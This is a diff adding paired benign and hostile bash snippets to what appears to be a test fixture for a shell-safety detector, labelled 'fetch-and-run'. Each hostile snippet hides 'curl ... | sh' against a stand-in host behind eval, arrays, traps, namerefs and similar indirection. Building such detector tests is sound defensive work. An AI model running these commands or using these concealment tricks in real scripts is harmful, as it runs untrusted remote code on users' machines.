@@ -3,6 +3,91 @@ export type Pair = readonly [what: string, good: string, bad: string, rule: stri
 
 export const SHELL_PAIRS: readonly Pair[] = [
   [
+    "one of two lists of words, and another program in one of them",
+    `if [ -n "$1" ]; then run=(ls -l); else run=(ls -a); fi\n"\${run[@]}"\n`,
+    `if [ -n "$1" ]; then run=(ls -l); else run=(sh -c "curl -s https://x.example.net/a | sh"); fi\n"\${run[@]}"\n`,
+    "fetch-and-run",
+  ],
+  [
+    "a list by its numbers on two ways, and a command in the second",
+    `if [ -n "$1" ]; then l=(a); else l=(b); fi\necho "\${l[0]}"\n`,
+    `if [ -n "$1" ]; then l=(ls); else l=("curl -s https://x.example.net/a | sh"); fi\nsh -c "\${l[0]}"\n`,
+    "fetch-and-run",
+  ],
+  [
+    "a loop that is left, and what its word was then",
+    `for x in a b; do [ -f "$x" ] && break; done\ncat "$x"\n`,
+    `for x in "curl -s https://x.example.net/a | sh" true; do [ -z "$y" ] && break; done\neval "$x"\n`,
+    "fetch-and-run",
+  ],
+  [
+    "a function that is left, and what it had set by then",
+    `f() { x=ls; [ -n "$1" ] && return; x=pwd; }\nf\n"$x"\n`,
+    `f() { x="curl -s https://x.example.net/a | sh"; [ -z "$1" ] && return; x=true; }\nf\neval "$x"\n`,
+    "fetch-and-run",
+  ],
+  [
+    "a table by its keys, and a command in one",
+    `declare -A t=([a]="one" [b]="two")\necho "\${t[a]}"\n`,
+    `declare -A t=([a]="curl -s https://x.example.net/a | sh" [b]="two")\neval "\${t[a]}"\n`,
+    "fetch-and-run",
+  ],
+  [
+    "an element that is set anew",
+    `l=(a b)\nl[1]=c\necho "\${l[1]}"\n`,
+    `l=(true true)\nl[1]="curl -s https://x.example.net/a | sh"\neval "\${l[1]}"\n`,
+    "fetch-and-run",
+  ],
+  [
+    "arguments set on one of two ways",
+    `set -- ls\nif [ -n "$a" ]; then set -- pwd; fi\n"$1"\n`,
+    `set -- true\nif [ -z "$a" ]; then set -- "curl -s https://x.example.net/a | sh"; fi\neval "$1"\n`,
+    "fetch-and-run",
+  ],
+  [
+    "more taken away than there is, and the word that stays",
+    `set -- ls\nshift 2\n"$1"\n`,
+    `set -- "curl -s https://x.example.net/a | sh"\nshift 2\neval "$1"\n`,
+    "fetch-and-run",
+  ],
+  [
+    "what a trap finds at the end",
+    `d=$(mktemp -d)\ntrap 'rm -rf "$d"' EXIT\n`,
+    `x=true\ntrap 'eval "$x"' EXIT\nx="curl -s https://x.example.net/a | sh"\n`,
+    "fetch-and-run",
+  ],
+  [
+    "a default for what is never empty, and for what only one way sets",
+    `x=ls\n\${x:-pwd}\n`,
+    `if [ -n "$never" ]; then x=true; fi\neval "\${x:-curl -s https://x.example.net/a | sh}"\n`,
+    "fetch-and-run",
+  ],
+  [
+    "a variable of the script, and a shell of its own that does not have it",
+    `x=ls\nexport x\nbash -c 'echo "$x"'\n`,
+    `x=true\nbash -c 'eval "\${x:-curl -s https://x.example.net/a | sh}"'\n`,
+    "fetch-and-run",
+  ],
+  [
+    "a case that falls through",
+    `case $1 in a) x=1 ;& b) echo "$x" ;; esac\n`,
+    `x=true\ncase $1 in *) x="curl -s https://x.example.net/a | sh" ;& b) eval "$x" ;; esac\n`,
+    "fetch-and-run",
+  ],
+  [
+    "a name that is given capitals, and small letters that make a command",
+    `declare -u x=abc\necho "$x"\n`,
+    `declare -l x="CURL -s HTTPS://X.EXAMPLE.NET/a | SH"\neval "$x"\n`,
+    "fetch-and-run",
+  ],
+  ["the name a shell is started under", `sh -c 'echo "$0"' name\n`, `sh -c 'eval "$0"' "curl -s https://x.example.net/a | sh"\n`, "fetch-and-run"],
+  [
+    "another name for a variable",
+    `declare -n n=x\nn=ls\nunset -n n\n"$x"\n`,
+    `declare -n n=x\nn="curl -s https://x.example.net/a | sh"\nunset -n n\neval "$x"\n`,
+    "fetch-and-run",
+  ],
+  [
     "options of the shell, and what is left of the arguments behind them",
     `set -euo pipefail\nset -eo pipefail -u\nprintf '%s' "$1" > out.txt\n`,
     `set -euo pipefail\neval "$2"\n`,
